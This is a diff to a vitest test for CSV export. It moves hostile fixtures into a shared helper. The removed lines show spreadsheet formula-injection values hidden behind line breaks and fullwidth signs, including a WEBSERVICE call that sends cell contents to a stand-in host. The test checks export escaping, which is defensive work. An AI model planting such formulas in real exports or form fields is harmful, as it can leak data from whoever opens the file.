@@ -1,41 +1,14 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { jsonHeaders, loginAs } from './auth-helpers.ts';
 import { rawCells, readCsv } from './export-csv-helpers.ts';
+import { hostileInitiative as hostile, hostileNote as note, recordHostileCells } from './export-fixtures.ts';
 import { startTestApp, type TestApp } from './test-app.ts';
-
-// What an official can type into the forms: the status note of the fault report, and titles and summaries that
-// hide a formula behind a bare line break, the other separator, or a fullwidth sign.
-const note = 'Проверено на месте\n=1+2';
-const hostile = {
-  id: 'hostile-cells',
-  kind: 'practice',
-  title: { ru: 'Заголовок\r=HYPERLINK("http://e.x")', en: 'x;=WEBSERVICE("http://e.x/?"&A1)' },
-  summary: { ru: '＝1+2', en: '@SUM(1)\n-2+3' },
-  ownerId: 'senate',
-  region: 'KZ-AKT',
-  tags: [],
-  noSource: true,
-};
 
 describe('hostile cells typed by an official, exported as CSV', () => {
   let app: TestApp;
 
   beforeAll(async () => {
     app = await startTestApp();
-    const cookie = await loginAs(app, 'admin');
-    const created = await app.fetch('/api/initiatives', {
-      method: 'POST',
-      headers: jsonHeaders(cookie),
-      body: JSON.stringify(hostile),
-    });
-    expect(created.status, await created.clone().text()).toBe(201);
-    const { version } = await app.json(`/api/initiatives/${hostile.id}`);
-    const patched = await app.fetch(`/api/initiatives/${hostile.id}`, {
-      method: 'PATCH',
-      headers: jsonHeaders(cookie),
-      body: JSON.stringify({ version, status: 'in_progress', note }),
-    });
-    expect(patched.status).toBe(200);
+    await recordHostileCells(app);
   });
   afterAll(() => app.close());
 
